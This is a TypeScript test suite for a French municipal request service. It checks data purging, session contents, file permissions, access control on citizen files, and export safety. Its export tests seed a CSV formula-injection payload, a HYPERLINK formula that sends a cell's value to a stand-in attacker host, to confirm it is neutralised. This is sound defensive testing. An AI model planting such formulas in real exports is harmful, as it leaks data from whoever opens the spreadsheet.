// Hostile probes of personal data at rest and in files: what the purge leaves in the
// SQLite file and its WAL, the confirmation page's session, file modes, formulas in CSV
// exports, and who opens a citizen's file. Each case: the status, the French message,
// nothing written, the service still answers. On SQLite and on MariaDB (the raw file
// checks are SQLite's own: MariaDB's files belong to its server).
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { connect } from '../../src/db/connection';
import { saveFormVersion } from '../../src/db/formVersions';
import { inertCell } from '../../src/exports/requestsExport';
import type { FieldDefinition } from '../../src/forms/fields';
import { formClient } from '../support/formClient';
import { MIGRATIONS, withFreshDatabase } from '../support/freshDatabase';
import { startHarness, waitFor, type Harness } from '../support/harness';
import { readable, webClient } from '../support/webClient';

let h: Harness;
const onSqlite = !process.env.DATABASE_URL;
beforeAll(async () => {
  h = await startHarness();
  const FORM: FieldDefinition[] = [{ key: 'objet', label: 'Objet', type: 'text', required: true, maxLength: 200 }];
  const formType = await h.db('form_types').where({ slug: 'signalement-voirie' }).first('id');
  await saveFormVersion(h.db, formType.id, FORM, null);
});
afterAll(async () => {
  await h?.close();
});

const count = async (table: string, where: Record<string, unknown> = {}) => Number((await h.db(table).where(where).count({ n: '*' }).first())?.n);
const stillServes = async () => expect((await fetch(`${h.baseUrl}/healthz`)).status).toBe(200);
const ok = async (res: Promise<{ status: number; body: unknown }>) => expect((await res).status).toBe(200);

describe('personal data after the purge', () => {
  const marker = `zq${crypto.randomBytes(6).toString('hex')}`;
  const email = `${marker}@example.org`;
  const dbFiles = () => ['guichet.sqlite', 'guichet.sqlite-wal'].map((f) => path.join(h.config.dataDir, f)).filter((f) => fs.existsSync(f));
  const rawHolds = (text: string) => dbFiles().filter((f) => fs.readFileSync(f).includes(Buffer.from(text)));
  let citizen: ReturnType<typeof formClient>;
  let reference = '';

  beforeAll(async () => {
    citizen = formClient(h.baseUrl, { 'x-forwarded-for': '198.51.100.10' });
    const filed = await citizen.post('/formulaires/signalement-voirie', '/formulaires/signalement-voirie', {
      nom: `Nom${marker}`, prenom: 'Prénom', courriel: email, objet: `Réponse ${marker}`,
    });
    expect(filed.status).toBe(303);
    // Before the purge the confirmation shows the address: the checks below can fail.
    const shown = await citizen.call('GET', '/formulaires/confirmation');
    reference = /id="reference">([^<]+)</.exec(shown.text)![1];
    expect(shown.text).toContain(email);
    const t = h.tokens.dleroy;
    await ok(h.api('POST', `/api/requests/${reference}/take`, t, { notifyCitizen: true }));
    await ok(h.api('POST', `/api/requests/${reference}/annotate`, t, { eventType: 'NOTE', comment: `Note interne ${marker}` }));
    if (onSqlite) {
      expect(rawHolds(marker).length).toBeGreaterThan(0);
    }
    await ok(h.api('POST', `/api/requests/${reference}/close`, t, { closingCode: 'TRAITEE', notifyCitizen: true }));
    await waitFor(async () => (await h.db('requests').where({ reference }).first('purged_at'))?.purged_at, 20000, 'the purge');
  });

  (onSqlite ? it : it.skip)('leaves no byte of the e-mail, answers or internal note in the SQLite file or its WAL (SQLite only: MariaDB\'s files belong to its server)', async () => {
    // The purge's own writes are done: what remains on disk is what the next reader finds.
    expect(rawHolds(marker)).toEqual([]);
    expect(rawHolds(email)).toEqual([]);
    const { journal_mode: mode } = (await h.db.raw('PRAGMA journal_mode'))[0];
    expect(mode).toBe('wal');
    expect((await h.db.raw('PRAGMA secure_delete'))[0].secure_delete).toBe(1);
    await stillServes();
  });

  it('keeps nothing personal in the session of the confirmation page, which no longer shows the address', async () => {
    const sessions: { sess: unknown }[] = await h.db('sessions').select('sess');
    expect(sessions.some((s) => JSON.stringify(s.sess).includes(reference))).toBe(true);
    expect(sessions.filter((s) => JSON.stringify(s.sess).includes(marker))).toEqual([]);
    const page = await citizen.call('GET', '/formulaires/confirmation');
    expect(page.status).toBe(200);
    expect(page.text).not.toContain(marker);
    expect(readable(page.text)).toContain('Un accusé de réception avec ce code vous a été envoyé par courriel.');
    expect(page.text).toContain(reference);
    await stillServes();
  });

  it('keeps DATA_DIR to its owner (0700) and the database files to theirs (0600)', async () => {
    expect(fs.statSync(h.config.dataDir).mode & 0o777).toBe(0o700);
    if (onSqlite) {
      for (const f of ['guichet.sqlite', 'guichet.sqlite-wal', 'guichet.sqlite-shm']) {
        expect({ f, mode: (fs.statSync(path.join(h.config.dataDir, f)).mode & 0o777).toString(8) }).toEqual({ f, mode: '600' });
      }
    }
    await stillServes();
  });

  (onSqlite ? it : it.skip)('tightens the files of an older installation (0644 in a 0755 folder) when it opens them (SQLite only: MariaDB\'s files belong to its server)', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'guichet-modes-'));
    try {
      fs.chmodSync(dir, 0o755);
      fs.writeFileSync(path.join(dir, 'guichet.sqlite'), '', { mode: 0o644 });
      fs.chmodSync(path.join(dir, 'guichet.sqlite'), 0o644);
      const db = connect({ databaseUrl: null, dataDir: dir });
      await db.raw('CREATE TABLE t (x TEXT)');
      await db('t').insert({ x: 'y' });
      expect(fs.statSync(dir).mode & 0o777).toBe(0o700);
      for (const f of ['guichet.sqlite', 'guichet.sqlite-wal', 'guichet.sqlite-shm']) {
        expect({ f, mode: (fs.statSync(path.join(dir, f)).mode & 0o777).toString(8) }).toEqual({ f, mode: '600' });
      }
      await db.destroy();
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** A `;`-separated CSV (quotes doubled inside quoted fields), as a spreadsheet reads it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') { row.push(field); field = ''; } else if (c === '\n') { row.push(field.replace(/\r$/, '')); rows.push(row); row = []; field = ''; } else field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

describe('formulas in exports', () => {
  const LABELS = ['=HYPERLINK("http://evil.example/?d="&A2;"Cliquez")', '+1+1', '-2+3', '@SUM(1+1)'];
  const refs: string[] = [];
  let amartin: ReturnType<typeof webClient>;

  beforeAll(async () => {
    const admin = webClient(h.baseUrl, '10.50.0.1');
    expect((await admin.login('admin')).status).toBe(303);
    await admin.call('POST', '/role', { _csrf: await admin.csrf('/role'), role: 'admin', retour: '/admin' });
    for (const [i, label] of LABELS.entries()) {
      const added = await admin.call('POST', '/admin/codes/clotures', { _csrf: await admin.csrf('/admin/codes/clotures'), code: `PIEGE${i}`, label });
      expect(added.status).toBe(303);
      const filed = await h.api('POST', '/api/requests', h.partnerKey, { formType: 'acte-naissance', citizen: { firstName: 'Cel', lastName: 'Lule' }, answers: {} });
      refs.push(filed.body.reference);
      await ok(h.api('POST', `/api/requests/${filed.body.reference}/take`, h.tokens.amartin, { notifyCitizen: false }));
      await ok(h.api('POST', `/api/requests/${filed.body.reference}/close`, h.tokens.amartin, { closingCode: `PIEGE${i}`, notifyCitizen: false }));
    }
    amartin = webClient(h.baseUrl, '10.50.0.2');
    expect((await amartin.login('amartin')).status).toBe(303);
  });

  it('writes a CSV cell beginning with =, +, - or @ after a single quote, so that no spreadsheet runs it', async () => {
    const before = await count('requests');
    const res = await amartin.call('GET', '/exports/journal.csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(res.text.replace(/^\uFEFF/, ''));
    const header = rows[0];
    const codeColumn = header.indexOf('Code de clôture');
    expect(codeColumn).toBeGreaterThan(0);
    for (const [i, ref] of refs.entries()) {
      const row = rows.find((r) => r[0] === ref)!;
      expect(row[codeColumn]).toBe(`'${LABELS[i]}`);
    }
    // No cell of the file starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(await count('requests')).toBe(before);
    await stillServes();
  });

  it('neutralises a tab or carriage return before a formula too, and leaves other text alone', () => {
    expect(inertCell('\t=1+1')).toBe("'\t=1+1");
    expect(inertCell('\r=1+1')).toBe("'\r=1+1");
    expect(inertCell('Traitée')).toBe('Traitée');
    expect(inertCell('2026-11-23 14:05')).toBe('2026-11-23 14:05');
  });

  it('writes the same labels in XLSX as typed text cells, never formulas', async () => {
    const res = await amartin.call('GET', '/exports/journal.xlsx');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as unknown as ExcelJS.Buffer);
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).map(String);
    const codeColumn = header.indexOf('Code de clôture');
    let seen = 0;
    sheet.eachRow((row) => {
      const i = refs.indexOf(String(row.getCell(1).value));
      if (i < 0) return;
      const cell = row.getCell(codeColumn);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(LABELS[i]);
      seen += 1;
    });
    expect(seen).toBe(LABELS.length);
    await stillServes();
  });
});

describe("citizens' files", () => {
  const phone = `06 ${crypto.randomInt(10, 99)} 44 55 66`;
  let fileUrl = '';
  let publicId = '';
  let rowId = 0;
  const NOT_FOUND = 'Dossier introuvable : ce dossier usager n\'existe pas, ou vous n\'y avez pas accès.';
  const agent = async (code: string, n: number) => {
    const c = webClient(h.baseUrl, `10.60.0.${n}`);
    expect((await c.login(code)).status).toBe(303);
    return c;
  };

  beforeAll(async () => {
    const amartin = await agent('amartin', 1);
    const created = await amartin.call('POST', '/usagers', {
      _csrf: await amartin.csrf('/usagers/nouveau'), nom: 'Secret', prenom: 'Sévérine', courriel: 'severine.secret@example.org', telephone: phone, 'numero-national': '2 85 04 44 109 999 99',
    });
    expect(created.status).toBe(303);
    fileUrl = created.headers.get('location')!;
    publicId = fileUrl.split('/').pop()!;
    rowId = (await h.db('citizens').where({ public_id: publicId }).first('id')).id;
  });

  it('names a file by a random public id, never its sequential one (which opens nothing, even for its creator)', async () => {
    expect(publicId).toMatch(/^[\w-]{16}$/);
    expect(publicId).not.toBe(String(rowId));
    const amartin = await agent('amartin', 2);
    expect((await amartin.call('GET', fileUrl)).status).toBe(200);
    const sequential = await amartin.call('GET', `/usagers/${rowId}`);
    expect(sequential.status).toBe(404);
    expect(sequential.text).toContain(NOT_FOUND);
    await stillServes();
  });

  it('refuses an agent with no request of the citizen in their services, as if the file did not exist, and in the search too', async () => {
    const before = await count('citizens');
    const dleroy = await agent('dleroy', 3);
    const refused = await dleroy.call('GET', fileUrl);
    const missing = await dleroy.call('GET', '/usagers/AAAAAAAAAAAAAAAA');
    expect(refused.status).toBe(404);
    expect(missing.status).toBe(404);
    expect(refused.text).toContain(NOT_FOUND);
    expect(refused.text).not.toContain('severine.secret@example.org');
    // Not allowed and not existing read the same (but for the per-page CSRF token).
    const strip = (s: string) => s.replace(/value="[^"]+"|content="[^"]+"/g, '');
    expect(strip(refused.text)).toBe(strip(missing.text));
    // The search does not find it for him, by phone, national number, e-mail or name.
    for (const q of [phone, '285044410999999', 'severine.secret@example.org', 'secret severine']) {
      const found = await dleroy.call('GET', `/usagers?q=${encodeURIComponent(q)}`);
      expect(found.status).toBe(200);
      expect(found.text).toContain('0 usager trouvé');
      expect(found.text).not.toContain(publicId);
    }
    // The entry form does not prefill from it, nor file a request into it.
    expect((await dleroy.call('GET', `/saisie?usager=${publicId}`)).status).toBe(404);
    expect((await dleroy.call('GET', `/saisie/signalement-voirie?usager=${publicId}`)).text).toContain(NOT_FOUND);
    const requests = await count('requests');
    const posted = await dleroy.call('POST', '/saisie/signalement-voirie', { _csrf: await dleroy.csrf('/saisie'), usager: publicId, canal: 'counter', nom: 'Secret', prenom: 'Sévérine', objet: 'x' });
    expect(posted.status).toBe(404);
    expect(posted.text).toContain(NOT_FOUND);
    expect(await count('requests')).toBe(requests);
    // A colleague of the creator's own service who did not create it: not his either, yet.
    const bdurand = await agent('bdurand', 4);
    expect((await bdurand.call('GET', fileUrl)).status).toBe(404);
    expect(await count('citizens')).toBe(before);
    await stillServes();
  });

  it('opens the file to its creator, to administrators, and to the agents of the services of its requests', async () => {
    const amartin = await agent('amartin', 5);
    expect((await amartin.call('GET', `/usagers?q=${encodeURIComponent(phone)}`)).text).toContain(`/usagers/${publicId}`);
    const admin = await agent('admin', 6);
    expect((await admin.call('GET', fileUrl)).status).toBe(200);
    // A request of état civil for the citizen: bdurand (état civil) now sees the file.
    const filed = await amartin.call('POST', '/saisie/acte-naissance', { _csrf: await amartin.csrf(`/saisie/acte-naissance?usager=${publicId}`), usager: publicId, canal: 'phone', nom: 'Secret', prenom: 'Sévérine' });
    expect(filed.status).toBe(303);
    expect(await count('requests', { citizen_id: rowId })).toBe(1);
    const bdurand = await agent('bdurand', 7);
    const page = await bdurand.call('GET', fileUrl);
    expect(page.status).toBe(200);
    expect(page.text).toContain('Sévérine Secret');
    expect((await bdurand.call('GET', `/usagers?q=${encodeURIComponent(phone)}`)).text).toContain(`/usagers/${publicId}`);
    await stillServes();
  });

  it('gives the files made before this version a public id when the database is migrated', async () => {
    await withFreshDatabase(async (db) => {
      await db.migrate.latest(MIGRATIONS);
      await db.migrate.down({ ...MIGRATIONS, name: '20261124200000_citizen_public_ids.ts' });
      expect(await db.schema.hasColumn('citizens', 'public_id')).toBe(false);
      const row = (n: string) => ({ first_name: n, last_name: 'Ancien', search_name: `${n} ancien`, created_at: Date.now() });
      await db('citizens').insert([row('un'), row('deux')]);
      await db.migrate.latest(MIGRATIONS);
      const ids: { public_id: string }[] = await db('citizens').select('public_id');
      expect(ids).toHaveLength(2);
      expect(ids.every((r) => /^[\w-]{16}$/.test(r.public_id))).toBe(true);
      expect(ids[0].public_id).not.toBe(ids[1].public_id);
    });
  });
});
